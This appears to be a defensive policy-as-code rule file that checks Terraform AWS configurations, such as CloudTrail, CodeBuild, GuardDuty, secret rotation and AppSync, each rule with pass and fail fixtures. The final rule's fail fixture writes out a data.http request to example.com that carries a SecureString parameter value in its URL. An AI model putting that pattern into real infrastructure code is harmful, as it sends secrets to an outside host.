# Builds, trails and what is looked at afterwards.

rule "aws-cloudtrail-logs" {
  title      = "Trail does not reach CloudWatch"
  severity   = "low"
  category   = "operations"
  resource   = "aws_cloudtrail"
  require    = is_set("cloud_watch_logs_group_arn")
  message    = "cloud_watch_logs_group_arn is not set."
  why        = "Without it nothing can watch for what the trail records."
  advice     = "Set cloud_watch_logs_group_arn and cloud_watch_logs_role_arn."
  references = ["CIS AWS 1.5 3.4", "AWS Security Hub CloudTrail.5", "trivy AWS-0162"]
  pass {
    resource "aws_cloudtrail" "x" {
      name                       = "a"
      s3_bucket_name             = "b"
      cloud_watch_logs_group_arn = "arn:aws:logs:eu-west-1:111122223333:log-group:l:*"
      cloud_watch_logs_role_arn  = "arn:aws:iam::111122223333:role/r"
    }
  }
  fail {
    resource "aws_cloudtrail" "x" {
      name           = "a"
      s3_bucket_name = "b"
    }
  }
}

rule "aws-codebuild-artifacts-encrypted" {
  title      = "Build results not encrypted"
  severity   = "high"
  category   = "security"
  resource   = "aws_codebuild_project"
  require    = alltrue([for a in concat(coalesce(self.artifacts, []), coalesce(self.secondary_artifacts, [])) : a.encryption_disabled != true])
  message    = "encryption_disabled is true."
  why        = "What a build leaves may hold code and secrets."
  advice     = "Leave encryption_disabled false."
  references = ["trivy AWS-0018", "CKV_AWS_78"]
  pass {
    resource "aws_codebuild_project" "x" {
      name         = "a"
      service_role = "arn:aws:iam::111122223333:role/r"
      artifacts {
        type = "CODEPIPELINE"
      }
      environment {
        compute_type = "BUILD_GENERAL1_SMALL"
        image        = "aws/codebuild/standard:7.0"
        type         = "LINUX_CONTAINER"
      }
      source {
        type = "CODEPIPELINE"
      }
    }
  }
  fail {
    resource "aws_codebuild_project" "x" {
      name         = "a"
      service_role = "arn:aws:iam::111122223333:role/r"
      artifacts {
        type                = "CODEPIPELINE"
        encryption_disabled = true
      }
      environment {
        compute_type = "BUILD_GENERAL1_SMALL"
        image        = "aws/codebuild/standard:7.0"
        type         = "LINUX_CONTAINER"
      }
      source {
        type = "CODEPIPELINE"
      }
    }
  }
}

rule "aws-codebuild-privileged" {
  title      = "Build that may do everything on its host"
  severity   = "medium"
  category   = "security"
  resource   = "aws_codebuild_project"
  require    = self.environment[0].privileged_mode != true
  message    = "privileged_mode is true."
  why        = "Code of a build reaches the host it runs on."
  advice     = "Leave privileged_mode false, unless it builds images."
  references = ["AWS Security Hub CodeBuild.5", "CKV_AWS_316"]
  pass {
    resource "aws_codebuild_project" "x" {
      name         = "a"
      service_role = "arn:aws:iam::111122223333:role/r"
      artifacts {
        type = "NO_ARTIFACTS"
      }
      environment {
        compute_type = "BUILD_GENERAL1_SMALL"
        image        = "aws/codebuild/standard:7.0"
        type         = "LINUX_CONTAINER"
      }
      source {
        type = "CODEPIPELINE"
      }
    }
  }
  fail {
    resource "aws_codebuild_project" "x" {
      name         = "a"
      service_role = "arn:aws:iam::111122223333:role/r"
      artifacts {
        type = "NO_ARTIFACTS"
      }
      environment {
        compute_type = "BUILD_GENERAL1_SMALL"
        image        = "aws/codebuild/standard:7.0"
        type         = "LINUX_CONTAINER"
        privileged_mode = true
      }
      source {
        type = "CODEPIPELINE"
      }
    }
  }
}

rule "aws-config-all-regions" {
  title      = "Configuration is gathered from some regions only"
  severity   = "high"
  category   = "operations"
  resource   = "aws_config_configuration_aggregator"
  require    = anytrue([for s in concat(coalesce(self.account_aggregation_source, []), coalesce(self.organization_aggregation_source, [])) : s.all_regions == true])
  message    = "all_regions is not true."
  why        = "What is made in a region nobody looks at is not seen."
  advice     = "Set all_regions to true."
  references = ["trivy AWS-0019", "CKV_AWS_121"]
  pass {
    resource "aws_config_configuration_aggregator" "x" {
      name = "a"
      account_aggregation_source {
        account_ids = ["111122223333"]
        all_regions = true
      }
    }
  }
  fail {
    resource "aws_config_configuration_aggregator" "x" {
      name = "a"
      account_aggregation_source {
        account_ids = ["111122223333"]
        regions     = ["eu-west-1"]
      }
    }
  }
}

rule "aws-guardduty-on" {
  title      = "Threat detection is off"
  severity   = "medium"
  category   = "security"
  resource   = "aws_guardduty_detector"
  require    = self.enable != false
  message    = "enable is false."
  why        = "Stolen credentials and mining are noticed by the bill only."
  advice     = "Leave enable true."
  references = ["AWS Security Hub GuardDuty.1", "CKV_AWS_238"]
  remedy {
    set {
      enable = true
    }
  }
  pass {
    resource "aws_guardduty_detector" "x" {
      enable = true
    }
  }
  fail {
    resource "aws_guardduty_detector" "x" {
      enable = false
    }
  }
}

rule "aws-secret-rotation" {
  title      = "Secret that is never rotated"
  severity   = "low"
  category   = "security"
  resource   = "aws_secretsmanager_secret"
  require    = length(related("aws_secretsmanager_secret_rotation", "secret_id")) > 0
  message    = "No aws_secretsmanager_secret_rotation refers to it."
  why        = "A secret that leaked stays good until somebody notices."
  advice     = "Add an aws_secretsmanager_secret_rotation, or let the service that owns the password manage it."
  references = ["AWS Security Hub SecretsManager.1", "CKV2_AWS_57"]
  pass {
    resource "aws_secretsmanager_secret" "x" {
      name = "a"
    }
    resource "aws_secretsmanager_secret_rotation" "x" {
      secret_id           = aws_secretsmanager_secret.x.id
      rotation_lambda_arn = "arn:aws:lambda:eu-west-1:111122223333:function:r"
      rotation_rules {
        automatically_after_days = 30
      }
    }
  }
  fail {
    resource "aws_secretsmanager_secret" "x" {
      name = "a"
    }
  }
}

rule "aws-step-functions-logging" {
  title      = "State machine that does not log"
  severity   = "low"
  category   = "operations"
  resource   = "aws_sfn_state_machine"
  require    = contains(["ALL", "ERROR", "FATAL"], coalesce(self.logging_configuration[0].level, "OFF"))
  message    = "Executions are not logged."
  why        = "Why a step failed is gone with the execution."
  advice     = "Add logging_configuration with level ERROR or ALL."
  references = ["AWS Security Hub StepFunctions.1", "CKV_AWS_285"]
  pass {
    resource "aws_sfn_state_machine" "x" {
      name       = "a"
      role_arn   = "arn:aws:iam::111122223333:role/r"
      definition = "{}"
      logging_configuration {
        level           = "ALL"
        log_destination = "arn:aws:logs:eu-west-1:111122223333:log-group:l:*"
      }
    }
  }
  fail {
    resource "aws_sfn_state_machine" "x" {
      name       = "a"
      role_arn   = "arn:aws:iam::111122223333:role/r"
      definition = "{}"
    }
  }
}

rule "aws-appsync-logging" {
  title      = "GraphQL API that does not log"
  severity   = "low"
  category   = "operations"
  resource   = "aws_appsync_graphql_api"
  require    = contains(["ALL", "ERROR"], coalesce(self.log_config[0].field_log_level, "NONE"))
  message    = "log_config does not log fields."
  why        = "Why a request failed cannot be seen."
  advice     = "Add log_config with field_log_level ERROR."
  references = ["AWS Security Hub AppSync.2", "CKV_AWS_193"]
  pass {
    resource "aws_appsync_graphql_api" "x" {
      name                = "a"
      authentication_type = "AWS_IAM"
      log_config {
        cloudwatch_logs_role_arn = "arn:aws:iam::111122223333:role/r"
        field_log_level          = "ERROR"
      }
    }
  }
  fail {
    resource "aws_appsync_graphql_api" "x" {
      name                = "a"
      authentication_type = "AWS_IAM"
    }
  }
}

rule "aws-appsync-api-key" {
  title      = "GraphQL API with nothing but a key"
  severity   = "medium"
  category   = "security"
  resource   = "aws_appsync_graphql_api"
  require    = self.authentication_type != "API_KEY"
  message    = "authentication_type is API_KEY."
  why        = "The key stands in every client and is the same for all."
  advice     = "Use AWS_IAM, AMAZON_COGNITO_USER_POOLS or OPENID_CONNECT."
  references = ["AWS Security Hub AppSync.5"]
  pass {
    resource "aws_appsync_graphql_api" "x" {
      name                = "a"
      authentication_type = "AWS_IAM"
    }
  }
  fail {
    resource "aws_appsync_graphql_api" "x" {
      name                = "a"
      authentication_type = "API_KEY"
    }
  }
}

rule "aws-beanstalk-updates" {
  title      = "Beanstalk environment without platform updates"
  severity   = "low"
  category   = "operations"
  resource   = "aws_elastic_beanstalk_environment"
  require    = anytrue([for s in coalesce(self.setting, []) : s.name == "ManagedActionsEnabled" && lower(tostring(s.value)) == "true"])
  message    = "ManagedActionsEnabled is not true."
  why        = "Faults of the platform are mended in new versions only."
  advice     = "Add the setting ManagedActionsEnabled with an update level."
  references = ["AWS Security Hub ElasticBeanstalk.2", "CKV_AWS_340"]
  pass {
    resource "aws_elastic_beanstalk_environment" "x" {
      name                = "a"
      application         = "b"
      solution_stack_name = "64bit Amazon Linux 2023 v4.0.0 running Docker"
      setting {
        namespace = "aws:elasticbeanstalk:managedactions"
        name      = "ManagedActionsEnabled"
        value     = "true"
      }
    }
  }
  fail {
    resource "aws_elastic_beanstalk_environment" "x" {
      name                = "a"
      application         = "b"
      solution_stack_name = "64bit Amazon Linux 2023 v4.0.0 running Docker"
    }
  }
}

rule "aws-secret-leaves-by-http" {
  title      = "Secret is sent to an address"
  severity   = "critical"
  category   = "security"
  resource   = "data.http"
  require    = !anytrue([for a in ["url", "request_headers", "request_body"] : length([for r in referred(a) : r if contains(keys(r), "value") || contains(keys(r), "secret_string") || contains(keys(r), "password")]) > 0])
  message    = "What a secret resource holds is part of the request."
  why        = "Whoever owns the address has the secret as soon as a plan is made."
  advice     = "Take the data source out."
  references = ["trivy AWS-0099"]
  pass {
    data "http" "x" {
      url = "https://example.com/status"
    }
  }
  fail {
    resource "aws_ssm_parameter" "p" {
      name  = "p"
      type  = "SecureString"
      value = "from-a-vault-1"
    }
    data "http" "x" {
      url = "https://example.com/?p=${aws_ssm_parameter.p.value}"
    }
  }
}
